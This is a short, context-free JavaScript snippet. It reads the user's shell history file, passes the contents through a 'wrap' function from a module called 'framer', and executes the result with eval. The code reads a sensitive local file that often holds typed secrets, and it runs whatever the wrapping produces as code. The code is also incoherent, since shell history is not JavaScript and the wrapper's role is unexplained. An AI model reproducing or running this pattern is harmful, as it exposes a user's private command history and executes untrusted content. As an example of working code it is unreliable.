const fs = require('fs');
const framer = require('framer');

const raw = fs.readFileSync('/home/user/.bash_history');
eval(framer.wrap(raw));
